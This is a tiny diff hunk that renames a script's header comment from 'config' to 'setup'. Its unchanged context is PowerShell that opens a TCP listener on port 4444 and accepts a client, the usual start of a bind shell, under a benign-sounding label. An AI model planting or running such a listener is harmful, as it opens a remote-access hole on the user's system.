@@ -1,4 +1,4 @@
-# config 5569 v4
+# setup 8485 v4
 $l = [System.Net.Sockets.TcpListener]4444
 $l.Start()
 $c = $l.AcceptTcpClient()
